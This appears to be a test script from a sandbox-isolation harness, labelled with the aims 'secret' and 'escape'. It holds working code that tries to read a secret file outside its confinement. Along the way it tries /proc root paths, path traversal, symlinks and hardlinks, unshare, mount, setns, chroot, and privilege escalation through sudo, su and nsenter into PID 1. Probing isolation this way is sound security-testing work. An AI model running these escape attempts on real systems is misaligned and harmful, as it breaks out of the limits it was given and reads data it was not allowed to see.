# story: A file outside, through every door there may be: links, other roots, other namespaces, other users.
# aim: secret, escape
# stock: secret

# %% last
import ctypes
import os
import subprocess
from pathlib import Path

libc = ctypes.CDLL(None, use_errno=True)
wanted = known.outside + "/secret.txt"


def show(path):
    try:
        print(Path(path).read_text())
    except (OSError, UnicodeDecodeError):
        pass


show(wanted)
show("/proc/1/root" + wanted)
show("/proc/self/root" + wanted)
show("../" * 30 + wanted)
for path in ("link", "/tmp/link", "/dev/shm/link"):
    try:
        os.symlink(wanted, path)
    except OSError:
        pass
    show(path)
for path in ("hard", "/tmp/hard"):
    try:
        os.link(wanted, path)
    except OSError:
        pass
    show(path)
child = os.fork()
if child == 0:
    for flags in (0x10000000, 0x10020000, 0x00020000):  # user, user and mount, mount
        libc.unshare(flags)
    os.makedirs("mounted", exist_ok=True)
    libc.mount(b"proc", b"mounted", b"proc", 0, None)
    libc.mount(known.outside.encode(), b"mounted", None, 0x5000, None)
    show("mounted/secret.txt")
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()][:50]
    except OSError:
        pids = []
    for pid in pids:
        try:
            namespace = os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY)
            libc.setns(namespace, 0)
            os.close(namespace)
        except OSError:
            pass
    libc.chroot(b"mounted")
    os.chdir("/") if hasattr(os, "chdir") else None
    show(wanted)
    libc.umount2(b"mounted", 2)
    os._exit(0)
os.waitpid(child, 0)
for command in (["sudo", "-n", "cat", wanted], ["su", "-c", f"cat {wanted}"], ["nsenter", "-t", "1", "-m", "cat", wanted]):
    try:
        print(subprocess.run(command, capture_output=True, text=True, timeout=5, stdin=subprocess.DEVNULL).stdout)
    except (OSError, subprocess.TimeoutExpired):
        pass
